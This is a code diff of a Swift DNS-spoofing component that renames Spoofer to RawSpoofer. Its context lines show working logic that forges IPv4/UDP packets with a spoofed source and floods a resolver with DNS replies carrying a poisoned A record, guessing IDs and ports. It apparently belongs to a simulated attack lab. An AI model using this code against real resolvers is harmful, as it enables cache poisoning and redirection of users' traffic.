@@ -11,7 +11,12 @@ import Glibc
 /// make it inside the attacker host's namespace (raw sockets need CAP_NET_RAW
 /// there). IPv4 only. Bounded by `count`, `rate` and `duration`; `stop()` ends it
 /// early. Runs on its own thread after `start()`.
-public final class Spoofer: @unchecked Sendable {
+///
+/// Compared with `Spoofer.flood` (a `PacketFlood` from a UDP socket with
+/// IP_TRANSPARENT): the raw socket needs no local route or bind for the forged
+/// source, the names can follow what the resolver is asking right now
+/// (`.live`), ports can be swept, and a duration bounds the flood.
+public final class RawSpoofer: @unchecked Sendable {
     /// Which destination ports to guess.
     public enum Ports: Sendable, Equatable, CustomStringConvertible {
         /// A uniformly random port of the range for each packet.
@@ -183,7 +188,7 @@ public final class Spoofer: @unchecked Sendable {
                 doneCond.broadcast()
             }
         }
-        var rng = SpoofRandom(seed: config.seed ?? UInt64(SimClock.monotonic() * 1e9) ^ 0x5DEECE66D)
+        var rng = RawSpoofRandom(seed: config.seed ?? UInt64(SimClock.monotonic() * 1e9) ^ 0x5DEECE66D)
         let start = SimClock.monotonic()
         let end = config.duration.map { start + $0 }
         let limit = config.count ?? Int.max
@@ -256,7 +261,7 @@ public final class Spoofer: @unchecked Sendable {
     /// The DNS payload of a forged reply for `name` (ID 0, patched per packet):
     /// QR, RD, RA, NOERROR, the question, and the poisoned A record.
     func forgedReply(_ name: String) -> [UInt8]? {
-        Spoofer.forgedReply(name, type: config.type, ttl: config.ttl, poison: poison)
+        RawSpoofer.forgedReply(name, type: config.type, ttl: config.ttl, poison: poison)
     }
 
     static func forgedReply(_ name: String, type: RRType, ttl: UInt32, poison: IPv4Address) -> [UInt8]? {
@@ -271,7 +276,7 @@ public final class Spoofer: @unchecked Sendable {
     /// Writes IPv4 + UDP headers and the payload (with `id`) into `packet`;
     /// returns the total length.
     func buildPacket(_ packet: inout [UInt8], payload: [UInt8], id: UInt16, port: UInt16, ipID: UInt16) -> Int {
-        Spoofer.buildPacket(&packet, source: sourceAddress, sourcePort: config.spoofedSource.port,
+        RawSpoofer.buildPacket(&packet, source: sourceAddress, sourcePort: config.spoofedSource.port,
                             target: targetAddress, payload: payload, id: id, port: port, ipID: ipID)
     }
 
@@ -290,7 +295,7 @@ public final class Spoofer: @unchecked Sendable {
             p[8] = 64; p[9] = UInt8(IPPROTO_UDP)
             p[10] = 0; p[11] = 0
             for i in 0..<4 { p[12 + i] = sourceAddress[i]; p[16 + i] = targetAddress[i] }
-            let ipSum = Spoofer.checksum(UnsafeRawBufferPointer(rebasing: p[0..<20]), initial: 0)
+            let ipSum = RawSpoofer.checksum(UnsafeRawBufferPointer(rebasing: p[0..<20]), initial: 0)
             p[10] = UInt8(ipSum >> 8); p[11] = UInt8(ipSum & 0xFF)
             // UDP header.
             p[20] = UInt8(sport >> 8); p[21] = UInt8(sport & 0xFF)
@@ -303,7 +308,7 @@ public final class Spoofer: @unchecked Sendable {
             var pseudo: UInt32 = 0
             for i in stride(from: 12, to: 20, by: 2) { pseudo += UInt32(p[i]) << 8 | UInt32(p[i + 1]) }
             pseudo += UInt32(IPPROTO_UDP) + UInt32(udpLength)
-            var udpSum = Spoofer.checksum(UnsafeRawBufferPointer(rebasing: p[20..<total]), initial: pseudo)
+            var udpSum = RawSpoofer.checksum(UnsafeRawBufferPointer(rebasing: p[20..<total]), initial: pseudo)
             if udpSum == 0 { udpSum = 0xFFFF }
             p[26] = UInt8(udpSum >> 8); p[27] = UInt8(udpSum & 0xFF)
         }
@@ -341,7 +346,7 @@ public final class Spoofer: @unchecked Sendable {
 }
 
 /// xorshift64*: fast, seedable, good enough for guessing IDs and ports.
-struct SpoofRandom {
+struct RawSpoofRandom {
     private var state: UInt64
     init(seed: UInt64) { state = seed == 0 ? 0x9E3779B97F4A7C15 : seed }
     mutating func next() -> UInt64 {
